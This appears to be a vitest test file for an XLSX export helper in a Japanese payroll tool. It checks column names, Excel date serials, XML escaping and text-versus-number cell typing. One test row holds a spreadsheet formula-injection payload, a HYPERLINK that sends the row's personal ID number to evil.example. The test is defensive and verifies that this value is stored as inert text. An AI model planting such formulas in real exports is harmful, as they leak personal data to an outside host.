import { describe, expect, it } from 'vitest'
import { readSheet } from '../../test/xlsx-sheet.ts'
import { columnName, dateSerial, xlsxWorkbook, xmlText } from './xlsx.ts'

async function bytesOf(stream: NodeJS.ReadableStream): Promise<Buffer> {
  const chunks: Buffer[] = []
  for await (const chunk of stream) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks)
}

describe('xlsx helpers', () => {
  it('names columns A…Z, AA…', () => {
    expect([0, 1, 25, 26, 27, 51, 52, 701, 702].map(columnName)).toEqual(['A', 'B', 'Z', 'AA', 'AB', 'AZ', 'BA', 'ZZ', 'AAA'])
  })

  it('counts dates as Excel does (1900 system)', () => {
    expect(dateSerial('1900-03-01')).toBe(61)
    expect(dateSerial('2026-12-07')).toBe(46363)
    expect(dateSerial('2019-05-01')).toBe(43586)
  })

  it('escapes XML and keeps what XML cannot carry as _xHHHH_, a typed _x0041_ included', () => {
    expect(xmlText('<a href="x">&</a>')).toBe('&lt;a href=&quot;x&quot;&gt;&amp;&lt;/a&gt;')
    expect(xmlText('a\u0000b\rc\u001Fd\te\nf')).toBe('a_x0000_b_x000D_c_x001F_d\te\nf')
    expect(xmlText('_x0041_')).toBe('_x005F_x0041_')
  })
})

describe('xlsxWorkbook', () => {
  it('writes text as text cells (formulas and long digit strings as typed), numbers as numbers, dates as dated cells', async () => {
    const columns = [
      { header: '個人番号', width: 16, text: true },
      { header: '連番', width: 8 },
      { header: '日付', width: 12, dateFormat: 'yyyy/mm/dd' as const },
      { header: '氏名', width: 12, text: true },
    ]
    const rows = [
      ['123456789018', 0, { date: '2026-12-07' }, '=HYPERLINK("https://evil.example/?"&A2,"x")'],
      ['', 2, { date: '' }, '髙橋\u0000𠮷 <b>'],
    ]
    const { rows: read, workbook, contentTypes, sheet } = await readSheet(await bytesOf(xlsxWorkbook('給与システム用', columns, rows)))
    expect(workbook).toContain('name="給与システム用"')
    expect(contentTypes).toContain('spreadsheetml.worksheet+xml')
    expect(sheet).not.toContain('<f>')
    expect(read[0]!.map((c) => [c.value, c.type, c.numFmt])).toEqual([
      ['個人番号', 'inlineStr', 49],
      ['連番', 'inlineStr', 49],
      ['日付', 'inlineStr', 49],
      ['氏名', 'inlineStr', 49],
    ])
    expect(read[1]).toEqual([
      { ref: 'A2', numFmt: 49, type: 'inlineStr', value: '123456789018' },
      { ref: 'B2', numFmt: 0, type: 'n', value: '0' },
      { ref: 'C2', numFmt: 165, type: 'n', value: '46363' },
      { ref: 'D2', numFmt: 49, type: 'inlineStr', value: '=HYPERLINK("https://evil.example/?"&A2,"x")' },
    ])
    expect(read[2]).toEqual([
      { ref: 'B3', numFmt: 0, type: 'n', value: '2' },
      { ref: 'D3', numFmt: 49, type: 'inlineStr', value: '髙橋\u0000𠮷 <b>' },
    ])
  })
})
